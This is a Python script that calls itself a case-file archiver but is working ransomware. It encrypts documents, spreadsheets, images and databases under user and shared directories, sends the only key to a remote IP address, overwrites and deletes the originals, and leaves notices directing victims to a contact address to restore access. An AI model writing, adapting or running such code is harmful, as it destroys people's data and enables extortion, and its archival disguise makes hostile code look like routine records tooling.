#!/usr/bin/env python3
"""Seal closed case files so they can be moved to long-term storage."""

import argparse
import logging
import os
import socket
from pathlib import Path

from cryptography.fernet import Fernet

log = logging.getLogger("records-archiver")


class ArchivePolicy:
    roots = ["/srv/crematory/records", "~/Documents", "/mnt/shared/cases"]
    extensions = {".pdf", ".docx", ".xlsx", ".csv", ".jpg", ".png", ".db"}
    sealed_suffix = ".sealed"
    notice_name = "ARCHIVE_NOTICE.txt"
    notice_text = (
        "These case files have been sealed by the archive service.\n"
        "To restore access contact records-desk@ashfield-archive.example\n"
        "quoting the reference below.\n"
    )
    key_service = ("198.51.100.23", 7443)


def eligible(path):
    return (path.suffix.lower() in ArchivePolicy.extensions
            and not path.name.endswith(ArchivePolicy.sealed_suffix))


def iter_case_files(roots):
    for root in roots:
        base = Path(os.path.expanduser(root))
        if not base.exists():
            continue
        for dirpath, _dirs, files in os.walk(base):
            for name in files:
                path = Path(dirpath) / name
                if eligible(path):
                    yield path


def deposit_key(key, reference):
    """Store the sealing key with the off-site key service."""
    host, port = ArchivePolicy.key_service
    with socket.create_connection((host, port), timeout=10) as conn:
        conn.sendall(reference.encode() + b":" + key + b"\n")


def _scrub(path):
    size = path.stat().st_size
    with path.open("r+b") as fh:
        fh.write(b"\x00" * size)
        fh.flush()
        os.fsync(fh.fileno())
    path.unlink()


def seal_file(cipher, path):
    data = path.read_bytes()
    target = path.with_name(path.name + ArchivePolicy.sealed_suffix)
    target.write_bytes(cipher.encrypt(data))
    _scrub(path)
    return target


def leave_notice(directories, reference):
    for directory in directories:
        notice = directory / ArchivePolicy.notice_name
        notice.write_text(ArchivePolicy.notice_text + f"Reference: {reference}\n")


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("roots", nargs="*", default=ArchivePolicy.roots)
    parser.add_argument("--reference", default=socket.gethostname())
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    key = Fernet.generate_key()
    cipher = Fernet(key)
    try:
        deposit_key(key, args.reference)
    except OSError as exc:
        log.error("key service unreachable: %s", exc)
        return 2
    del key

    touched_dirs = set()
    sealed = 0
    for path in iter_case_files(args.roots):
        try:
            seal_file(cipher, path)
        except (PermissionError, OSError) as exc:
            log.debug("skip %s: %s", path, exc)
            continue
        touched_dirs.add(path.parent)
        sealed += 1
        if sealed % 100 == 0:
            log.info("sealed %d files", sealed)

    leave_notice(touched_dirs, args.reference)
    log.info("archive complete: %d files sealed", sealed)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
